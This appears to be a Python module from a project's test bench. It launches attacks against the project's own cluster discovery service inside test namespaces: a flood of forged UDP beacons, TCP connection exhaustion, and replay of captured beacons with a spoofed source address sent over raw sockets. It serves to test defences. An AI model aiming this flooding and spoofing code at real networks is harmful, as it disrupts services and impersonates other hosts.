"""What an outsider without the secret can send, as processes to run on namespace hosts.

- ``beacons``: UDP datagrams shaped exactly like beacons (valid CBOR, this mlxcel version, a
  plausible address, a fresh nonce) under a random key, as fast as one process can send them;
- ``pending``: silent TCP connections to a cluster port from several local addresses, each
  reopened as soon as the server closes it, so the unfinished-handshake slots stay taken;
- ``capture`` then ``replay``: record a real peer's beacons off the broadcast, and once that
  peer has left, send them again with its address forged as the source (a raw socket).

Run ``python -m mlxcel.bench.attacks beacons HOST PORT SECONDS``, ``... pending HOST PORT
SECONDS PER_SOURCE SOURCE...``, ``... capture VICTIM PORT SECONDS FILE`` or ``... replay HOST
PORT SECONDS FILE SOURCE`` (inside a host: :meth:`Hosts.spawn`). Each prints one JSON line of what it
did when it ends. Never aim them at anything but a test network.
"""

from __future__ import annotations

import json
import os
import selectors
import signal
import socket
import struct
import sys
import time
from pathlib import Path

from mlxcel import __version__
from mlxcel.bringup.beacon import make_beacon

_stop = False  # set by SIGTERM: the attack ends and reports what it sent


def _on_term(_sig: int, _frame: object) -> None:
    global _stop
    _stop = True


def forged_beacons(n: int = 256) -> list[bytes]:
    """``n`` beacons under a random key, as an attacker who read real ones would build."""
    key = os.urandom(32)
    return [
        make_beacon(
            key, __version__, "mlxcel-cluster", "10.9.9.9:19001", time.time(), os.urandom(16)
        )
        for _ in range(n)
    ]


def flood_beacons(host: str, port: int, seconds: float) -> dict[str, int]:
    """Send forged beacons to ``host:port`` as fast as this process can, for ``seconds``."""
    datagrams = forged_beacons()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.connect((host, port))
    send = s.send
    sent = failed = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and not _stop:
        for d in datagrams:
            try:
                send(d)
                sent += 1
            except OSError:  # a full send buffer: the attacker does not care
                failed += 1
    s.close()
    return {"sent": sent, "failed": failed}


def hold_pending(
    host: str, port: int, seconds: float, per_source: int, sources: list[str]
) -> dict[str, int]:
    """Keep ``per_source`` silent connections open from each source; reopen closed ones."""
    sel = selectors.DefaultSelector()
    opened = closed = refused = 0

    def open_one(src: str) -> None:
        nonlocal opened, refused
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((src, 0))
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            s.close()
            return
        opened += 1
        sel.register(s, selectors.EVENT_READ, src)

    for src in sources:
        for _ in range(per_source):
            open_one(src)
    end = time.monotonic() + seconds
    while time.monotonic() < end and not _stop:
        for k, _ in sel.select(timeout=0.05):
            s = k.fileobj
            try:
                data = s.recv(4096)  # type: ignore[union-attr]
            except OSError:
                data = b""
            if not data:  # the server closed it (timeout, busy, evicted): take another
                sel.unregister(s)
                s.close()  # type: ignore[union-attr]
                closed += 1
                open_one(k.data)
        # Connects the server refused outright are retried as well.
        want = per_source * len(sources)
        while len(sel.get_map()) < want and time.monotonic() < end:
            before = len(sel.get_map())
            open_one(sources[len(sel.get_map()) % len(sources)])
            if len(sel.get_map()) == before:
                time.sleep(0.01)
                break
    for k in list(sel.get_map().values()):
        k.fileobj.close()  # type: ignore[union-attr]
    return {"opened": opened, "closed_by_server": closed, "refused": refused}


def capture(victim: str, port: int, seconds: float, out: Path) -> dict[str, int]:
    """Record the datagrams ``victim`` sends to ``port`` (a broadcast reaches every host)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port))
    s.settimeout(0.2)
    got: list[bytes] = []
    end = time.monotonic() + seconds
    while time.monotonic() < end and not _stop:
        try:
            data, (ip, _p) = s.recvfrom(4096)
        except TimeoutError:
            continue
        if ip == victim:
            got.append(data)
    s.close()
    out.write_text("".join(d.hex() + "\n" for d in got))
    return {"captured": len(got)}


def forged_udp(src: str, dst: str, dport: int, payload: bytes) -> bytes:
    """An IPv4 packet carrying ``payload`` from ``src`` (not ours) to ``dst``: the kernel
    fills in the header checksum and id; a zero UDP checksum means none."""
    udp = struct.pack("!HHHH", 40000, dport, 8 + len(payload), 0) + payload
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )  # fmt: skip
    return ip + udp


def replay(host: str, port: int, seconds: float, captured: Path, src: str) -> dict[str, int]:
    """Send every captured datagram again, forged as from ``src``, round and round."""
    datagrams = [bytes.fromhex(line) for line in captured.read_text().split()]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sent = 0
    end = time.monotonic() + seconds
    while datagrams and time.monotonic() < end and not _stop:
        for d in datagrams:
            s.sendto(forged_udp(src, host, port, d), (host, 0))
            sent += 1
        time.sleep(0.2)
    s.close()
    return {"replayed": sent, "distinct": len(datagrams)}


def main(argv: list[str]) -> int:
    what, host, port, seconds = argv[0], argv[1], int(argv[2]), float(argv[3])
    signal.signal(signal.SIGTERM, _on_term)
    if what == "beacons":
        out = flood_beacons(host, port, seconds)
    elif what == "pending":
        out = hold_pending(host, port, seconds, int(argv[4]), argv[5:])
    elif what == "capture":
        out = capture(host, port, seconds, Path(argv[4]))
    elif what == "replay":
        out = replay(host, port, seconds, Path(argv[4]), argv[5])
    else:
        print(f"unknown attack {what!r}", file=sys.stderr)
        return 2
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
